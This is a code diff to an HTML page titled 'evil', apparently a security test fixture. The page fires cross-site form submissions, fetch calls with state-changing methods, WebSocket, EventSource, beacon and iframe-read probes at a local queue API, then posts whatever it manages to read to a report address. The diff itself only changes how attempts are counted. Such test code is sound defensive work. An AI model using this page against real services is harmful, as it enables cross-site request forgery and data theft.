@@ -36,6 +36,7 @@ PAGE = """<!doctype html><title>evil</title>
 <form id="get" target="sink" action="{api}/queues/bait/jobs"></form>
 <script>
 const api = "{api}", read = [];
+let tried = document.querySelectorAll("link, script[src], img, video, object, iframe[src], iframe[srcdoc]").length;
 const note = (name, value) => read.push(name + " " + value);
 const body = JSON.stringify({{name: "fetched"}});
 const TRIES = {{
@@ -59,6 +60,7 @@ const TRIES = {{
   "put": ["/queues/witness", {{method: "PUT", body: "{{}}"}}],
 }};
 const attempt = async ([name, [path, options]]) => {{
+  tried++;
   try {{
     const answer = await fetch(api + path, {{signal: AbortSignal.timeout(4000), ...options}});
     if (answer.type !== "opaque") {{
@@ -68,17 +70,20 @@ const attempt = async ([name, [path, options]]) => {{
   }} catch (error) {{}}
 }};
 const socket = () => new Promise(done => {{
+  tried++;
   const ws = new WebSocket(api.replace("http", "ws") + "/queues");
   ws.onopen = () => {{ note("websocket", "open"); done(); }};
   ws.onerror = ws.onclose = done;
 }});
 const events = () => new Promise(done => {{
+  tried++;
   const source = new EventSource(api + "/queues/bait/jobs");
   source.onopen = () => note("event source", "open");
   source.onerror = () => {{ source.close(); done(); }};
   setTimeout(done, 2000);
 }});
 const framed = () => {{
+  tried++;
   try {{
     const inner = document.getElementById("framed").contentDocument;
     if (inner && inner.body && inner.body.textContent.length > 100) note("framed", inner.title);
@@ -87,12 +92,13 @@ const framed = () => {{
 addEventListener("load", async () => {{
   for (const id of ["form", "pull", "pause", "get"]) {{
     document.getElementById(id).submit();
+    tried++;
     await new Promise(done => setTimeout(done, 100));
   }}
-  navigator.sendBeacon(api + "/queues/pushed/jobs", new Blob([body], {{type: "text/plain"}}));
+  tried += navigator.sendBeacon(api + "/queues/pushed/jobs", new Blob([body], {{type: "text/plain"}}));
   await Promise.all([...Object.entries(TRIES).map(attempt), socket(), events()]);
   framed();
-  await fetch("{report}", {{method: "POST", mode: "no-cors", body: JSON.stringify({{read, tried: Object.keys(TRIES).length + 18}})}});
+  await fetch("{report}", {{method: "POST", mode: "no-cors", body: JSON.stringify({{read, tried}})}});
   document.title = "done";
 }});
 </script>
